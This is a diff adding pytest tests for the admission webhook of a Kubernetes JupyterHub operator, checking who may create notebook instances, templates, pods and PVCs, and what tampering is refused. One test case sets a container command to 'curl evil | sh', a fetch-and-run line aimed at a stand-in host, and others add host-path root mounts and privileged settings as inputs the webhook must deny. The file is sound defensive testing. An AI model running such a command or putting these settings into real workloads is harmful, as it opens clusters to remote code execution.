@@ -1,0 +1,267 @@
+"""The judge's decisions, without HTTP or a cluster: instances, templates, pods and PVCs."""
+
+from __future__ import annotations
+
+import copy
+from typing import Any
+
+import pytest
+
+from jupyternetes import constants, models, render
+from jupyternetes.webhook import defaults
+from jupyternetes.webhook.judge import Judge, Verdict
+from jupyternetes.webhook.policy import PolicyViolation
+from jupyternetes.webhook.review import Request
+from jupyternetes.webhook.settings import WebhookSettings
+from tests import seeds
+from tests.webhook import fakes
+
+HUB = "system:serviceaccount:default:hub"
+OPERATOR = "system:serviceaccount:jupyternetes:jupyternetes-operator"
+SETTINGS = WebhookSettings(template_namespace="kadense", instance_creators=[HUB], operator_user=OPERATOR)
+
+
+def _seed_instance() -> dict[str, Any]:
+    instance = seeds.seed_instance()
+    instance.pop("status")
+    instance["metadata"]["uid"] = "11111111-2222-3333-4444-555555555555"
+    return instance
+
+
+def _mutated_template() -> dict[str, Any]:
+    template = seeds.seed_template()
+    for pod in template["spec"]["pods"]:
+        pod["spec"], _ = defaults.apply(pod["spec"], defaults.PodDefaults({"cpu": "2", "memory": "4Gi"}))
+    return template
+
+
+def _judge(engine: fakes.FixedEngine | None = None, with_objects: bool = True, **config: Any) -> Judge:
+    lookup = fakes.DictLookup(
+        {("default", _seed_instance()["metadata"]["name"]): _seed_instance()} if with_objects else {},
+        {("kadense", "default-template"): _mutated_template()} if with_objects else {},
+    )
+    return Judge(SETTINGS, fakes.data(**config), engine or fakes.FixedEngine(), lookup)
+
+
+def _request(resource: str, obj: dict[str, Any] | None, **kwargs: Any) -> Request:
+    return Request.model_validate(fakes.review(resource, obj, **kwargs)["request"])
+
+
+def _rules(verdict: Verdict) -> set[str]:
+    return {f.rule for f in verdict.denials}
+
+
+def _rendered(kind: str) -> dict[str, Any]:
+    manifests = render.render(models.parse_template(_mutated_template()), models.parse_instance(_seed_instance()))
+    obj = copy.deepcopy((manifests.pods if kind == "Pod" else manifests.pvcs)[0].manifest)
+    obj["metadata"]["ownerReferences"] = [{"apiVersion": "kadense.io/v1", "kind": "JupyterNotebookInstance",
+                                           "name": _seed_instance()["metadata"]["name"],
+                                           "uid": _seed_instance()["metadata"]["uid"], "controller": True}]
+    return obj
+
+
+class TestInstances:
+    async def test_the_hub_may_create_the_seed_instance_with_a_warning_about_its_plain_text_token(self) -> None:
+        verdict = await _judge().instance(_request("jupyternotebookinstances", _seed_instance(), user=HUB))
+        assert verdict.allowed, verdict.message()
+        assert any("jupyterhub.api_token" in w and "plain text" in w for w in verdict.warnings)
+
+    async def test_nobody_else_may_create_instances(self) -> None:
+        verdict = await _judge().instance(_request("jupyternotebookinstances", _seed_instance(), user="mallory"))
+        assert _rules(verdict) == {"instance-creators"}
+        assert "mallory may not create notebook instances" in verdict.message()
+
+    async def test_a_group_can_be_a_creator(self) -> None:
+        settings = SETTINGS.model_copy(update={"instance_creators": ["group:system:authenticated"]})
+        judge = Judge(settings, fakes.data(), fakes.FixedEngine(), fakes.DictLookup())
+        verdict = await judge.instance(_request("jupyternotebookinstances", _seed_instance(), user="anyone"))
+        assert verdict.allowed
+
+    async def test_the_spec_cannot_change_after_creation(self) -> None:
+        old = _seed_instance()
+        new = copy.deepcopy(old)
+        new["spec"]["variables"]["jupyterhub.user.name"] = "root"
+        new["metadata"]["labels"] = {"fine": "to change"}
+        verdict = await _judge().instance(_request("jupyternotebookinstances", new, operation="UPDATE", old=old,
+                                                   user=HUB))
+        assert _rules(verdict) == {"instance-immutable"}
+        assert verdict.denials[0].path == "spec.variables"
+
+    async def test_metadata_changes_are_fine(self) -> None:
+        old = _seed_instance()
+        new = copy.deepcopy(old)
+        new["metadata"]["labels"] = {"fine": "to change"}
+        verdict = await _judge().instance(_request("jupyternotebookinstances", new, operation="UPDATE", old=old,
+                                                   user=HUB))
+        assert verdict.allowed
+
+    async def test_a_template_from_a_namespace_that_is_not_allowed(self) -> None:
+        instance = _seed_instance()
+        instance["spec"]["template"]["namespace"] = "kube-system"
+        verdict = await _judge().instance(_request("jupyternotebookinstances", instance, user=HUB))
+        assert _rules(verdict) == {"template-namespace"}
+        assert "use a template in 'default' or 'kadense'" in verdict.message()
+
+    async def test_a_missing_template_is_admitted_with_a_warning(self) -> None:
+        verdict = await _judge(with_objects=False).instance(
+            _request("jupyternotebookinstances", _seed_instance(), user=HUB))
+        assert verdict.allowed
+        assert any("does not exist yet" in w for w in verdict.warnings)
+
+    async def test_an_instance_that_does_not_render_is_refused_naming_the_variable(self) -> None:
+        instance = _seed_instance()
+        del instance["spec"]["variables"]["jupyterhub.user.name"]
+        verdict = await _judge().instance(_request("jupyternotebookinstances", instance, user=HUB))
+        assert _rules(verdict) == {"render"}
+        assert "unknown variable 'jupyterhub.user.name'" in verdict.message()
+
+    async def test_the_rendered_pods_and_variables_go_to_the_policies(self) -> None:
+        engine = fakes.FixedEngine()
+        await _judge(engine).instance(_request("jupyternotebookinstances", _seed_instance(), user=HUB))
+        (document,) = engine.documents
+        assert document["kind"] == constants.INSTANCE_KIND
+        assert document["pods"][0]["path"] == "rendered pod 'notebook': spec"
+        assert document["pods"][0]["spec"]["containers"][0]["env"][0]["value"] == "852dc4bd4e4e4360b7ae94cffa4f1c76"
+        assert "jupyterhub.user.name" in document["template_variables"]
+        assert document["variables"]["jupyterhub.user.id"] == "1"
+
+
+class TestTemplates:
+    async def test_the_seed_template_passes_as_it_will_be_after_the_defaults(self) -> None:
+        verdict = await _judge().template(_request("jupyternotebooktemplates", seeds.seed_template()))
+        assert verdict.allowed, verdict.message()
+
+    async def test_a_privileged_container_is_refused_by_the_floor_whatever_the_policies_say(self) -> None:
+        template = seeds.seed_template()
+        template["spec"]["pods"][0]["spec"]["containers"][0]["securityContext"] = {"privileged": True}
+        verdict = await _judge().template(_request("jupyternotebooktemplates", template))
+        assert "floor:privileged" in _rules(verdict)
+        assert verdict.denials[0].path == "spec.pods[0].spec.containers[0].securityContext.privileged"
+
+    async def test_malformed_placeholders_are_refused(self) -> None:
+        template = seeds.seed_template()
+        template["spec"]["pods"][0]["spec"]["containers"][0]["args"] = ["{unclosed"]
+        verdict = await _judge().template(_request("jupyternotebooktemplates", template))
+        assert _rules(verdict) == {"template-syntax"}
+
+    @pytest.mark.parametrize(("mode", "allowed", "warned", "audited"),
+                             [("enforce", False, 0, 0), ("warn", True, 1, 0), ("audit", True, 0, 1)])
+    async def test_policy_modes(self, mode: str, allowed: bool, warned: int, audited: int) -> None:
+        engine = fakes.FixedEngine([PolicyViolation("images", "spec.pods[0].spec.containers[0].image",
+                                                    "image x is not on the allowlist", "use another")])
+        verdict = await _judge(engine, modes={"images": mode}).template(
+            _request("jupyternotebooktemplates", seeds.seed_template()))
+        assert verdict.allowed is allowed
+        assert sum("warn mode" in w for w in verdict.all_warnings()) == warned
+        assert len(verdict.audit()) == audited
+
+    async def test_every_violation_is_reported_together(self) -> None:
+        engine = fakes.FixedEngine([PolicyViolation("images", "a", "m1", "f1"), PolicyViolation("resources", "b",
+                                                                                                 "m2", "f2")])
+        template = seeds.seed_template()
+        template["spec"]["pods"][0]["spec"]["hostNetwork"] = True
+        verdict = await _judge(engine).template(_request("jupyternotebooktemplates", template))
+        assert _rules(verdict) == {"images", "resources", "floor:host-namespaces"}
+        message = verdict.message()
+        assert message.startswith("JupyterNotebookTemplate kadense/default-template is refused: ")
+        assert "a: m1 (rule images); to comply: f1" in message
+
+
+class TestWorkloads:
+    @pytest.mark.parametrize("kind", ["Pod", "PersistentVolumeClaim"])
+    async def test_the_operator_may_create_exactly_the_rendering(self, kind: str) -> None:
+        resource = "pods" if kind == "Pod" else "persistentvolumeclaims"
+        verdict = await _judge().workload(_request(resource, _rendered(kind), user=OPERATOR))
+        assert verdict.allowed, verdict.message()
+
+    async def test_nobody_else_may_create_a_labelled_pod(self) -> None:
+        verdict = await _judge().workload(_request("pods", _rendered("Pod"), user="system:admin"))
+        assert _rules(verdict) == {"operator-only"}
+
+    async def test_a_single_jupyternetes_annotation_is_enough_to_be_judged(self) -> None:
+        pod = {"apiVersion": "v1", "kind": "Pod", "metadata": {"name": "p", "namespace": "default", "annotations": {
+            constants.ANNOTATION_INSTANCE_NAME: "8dc366d8a0f05869bfdb6e7eb3d83f65"}}, "spec": {"containers": []}}
+        verdict = await _judge().workload(_request("pods", pod, user="system:admin"))
+        assert _rules(verdict) == {"operator-only"}
+
+    async def test_the_operator_may_not_create_unlabelled_pods(self) -> None:
+        pod = {"apiVersion": "v1", "kind": "Pod", "metadata": {"name": "p", "namespace": "default"},
+               "spec": {"containers": [{"name": "c", "image": "quay.io/jupyter/base-notebook"}]}}
+        verdict = await _judge().workload(_request("pods", pod, user=OPERATOR))
+        assert _rules(verdict) == {"rendered-only"}
+
+    @pytest.mark.parametrize(("edit", "path"), [
+        (lambda p: p["spec"]["containers"][0].update(image="quay.io/jupyter/other:1"), "spec.containers[0].image"),
+        (lambda p: p["spec"]["containers"][0]["env"].append({"name": "X", "value": "1"}), "spec.containers[0].env"),
+        (lambda p: p["spec"].update(hostNetwork=True), "spec.hostNetwork"),
+        (lambda p: p["spec"]["containers"].append(copy.deepcopy(p["spec"]["containers"][0]) | {"name": "sidecar"}),
+         "spec.containers"),
+        (lambda p: p["spec"]["containers"][0].update(command=["/bin/sh", "-c", "curl evil | sh"]),
+         "spec.containers[0].command"),
+        (lambda p: p["spec"]["volumes"].append({"name": "host", "hostPath": {"path": "/"}}), "spec.volumes"),
+        (lambda p: p["metadata"]["labels"].update(extra="label"), "metadata.labels"),
+    ], ids=["other-image", "extra-env", "host-network", "extra-container", "changed-command", "host-path",
+            "extra-label"])
+    async def test_the_operator_may_not_create_anything_a_template_would_not_render(self, edit: Any,
+                                                                                     path: str) -> None:
+        pod = _rendered("Pod")
+        edit(pod)
+        verdict = await _judge().workload(_request("pods", pod, user=OPERATOR))
+        assert "matches-template" in _rules(verdict)
+        assert any(f.path == path for f in verdict.denials), [f.describe() for f in verdict.denials]
+
+    async def test_api_server_defaults_are_not_differences(self) -> None:
+        pod = _rendered("Pod")
+        spec = pod["spec"]
+        spec.update(dnsPolicy="ClusterFirst", restartPolicy="Always", terminationGracePeriodSeconds=30,
+                    schedulerName="default-scheduler", enableServiceLinks=True, serviceAccountName="default",
+                    serviceAccount="default", priority=0, preemptionPolicy="PreemptLowerPriority",
+                    tolerations=[{"key": "node.kubernetes.io/not-ready", "operator": "Exists", "effect": "NoExecute",
+                                  "tolerationSeconds": 300}])
+        container = spec["containers"][0]
+        container.update(terminationMessagePath="/dev/termination-log", terminationMessagePolicy="File",
+                         imagePullPolicy="IfNotPresent")
+        container["resources"]["requests"] = {"cpu": "2", "memory": "4096Mi"}
+        container["ports"][0]["protocol"] = "TCP"
+        verdict = await _judge().workload(_request("pods", pod, user=OPERATOR))
+        assert verdict.allowed, verdict.message()
+
+    async def test_a_pod_for_an_instance_that_does_not_exist(self) -> None:
+        verdict = await _judge(with_objects=False).workload(_request("pods", _rendered("Pod"), user=OPERATOR))
+        assert "no instance default/8dc366d8a0f05869bfdb6e7eb3d83f65 exists" in verdict.message()
+
+    async def test_owner_references_must_point_at_the_instance(self) -> None:
+        pod = _rendered("Pod")
+        pod["metadata"]["ownerReferences"][0]["uid"] = "someone-else"
+        verdict = await _judge().workload(_request("pods", pod, user=OPERATOR))
+        assert any(f.path == "metadata.ownerReferences" for f in verdict.denials)
+
+    async def test_nobody_may_label_an_existing_pod_into_jupyternetes(self) -> None:
+        old = {"apiVersion": "v1", "kind": "Pod", "metadata": {"name": "mine", "namespace": "default"},
+               "spec": {"containers": [{"name": "c", "image": "x"}]}}
+        new = copy.deepcopy(old)
+        new["metadata"]["labels"] = {constants.LABEL_INSTANCE: "8dc366d8a0f05869bfdb6e7eb3d83f65"}
+        verdict = await _judge().workload(_request("pods", new, operation="UPDATE", old=old, user="system:admin"))
+        assert _rules(verdict) == {"jupyternetes-objects"}
+
+    async def test_a_jupyternetes_pod_cannot_be_changed(self) -> None:
+        old = _rendered("Pod")
+        new = copy.deepcopy(old)
+        new["spec"]["containers"][0]["image"] = "quay.io/jupyter/other"
+        verdict = await _judge().workload(_request("pods", new, operation="UPDATE", old=old, user="system:admin"))
+        assert _rules(verdict) == {"jupyternetes-objects"}
+
+    async def test_kubernetes_may_bind_a_jupyternetes_pvc_to_a_volume(self) -> None:
+        old = _rendered("PersistentVolumeClaim")
+        new = copy.deepcopy(old)
+        new["spec"]["volumeName"] = "pvc-1234"
+        new["metadata"]["annotations"]["pv.kubernetes.io/bind-completed"] = "yes"
+        verdict = await _judge().workload(_request("persistentvolumeclaims", new, operation="UPDATE", old=old,
+                                                   user="system:serviceaccount:kube-system:persistent-volume-binder"))
+        assert verdict.allowed
+
+    async def test_unrelated_pods_are_not_judged(self) -> None:
+        pod = {"apiVersion": "v1", "kind": "Pod", "metadata": {"name": "other", "namespace": "default"},
+               "spec": {"containers": [{"name": "c", "image": "anything", "securityContext": {"privileged": True}}]}}
+        verdict = await _judge().workload(_request("pods", pod, user="system:admin"))
+        assert verdict.allowed
